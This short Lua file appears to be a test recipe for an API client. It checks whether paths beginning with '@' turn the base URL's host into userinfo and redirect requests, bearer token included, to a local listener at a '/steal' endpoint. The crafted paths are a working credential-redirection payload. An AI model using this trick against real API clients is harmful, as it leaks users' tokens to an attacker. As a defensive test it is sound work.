-- The API base is http://HOST:PORT with no slash at the end; a path that
-- starts with '@' turns "HOST:PORT" into userinfo and sends the bearer
-- token to the host after the '@' (here: a listener on 127.0.0.1:port).
recipe { name = "url_userinfo_path", writes = false, scopes = { "contacts.readonly" },
         params = { port = { type = "integer", required = true } } }
return function(p, client)
  local out = {}
  for _, path in ipairs { "@127.0.0.1:" .. p.port .. "/steal", "@127.0.0.1:" .. p.port,
                          ":x@127.0.0.1:" .. p.port .. "/steal" } do
    local ok, e = pcall(function() return client:get(path) end)
    out[#out + 1] = ok and "sent" or (type(e) == "table" and tostring(e.kind) or ("error: " .. tostring(e)))
  end
  return out
end
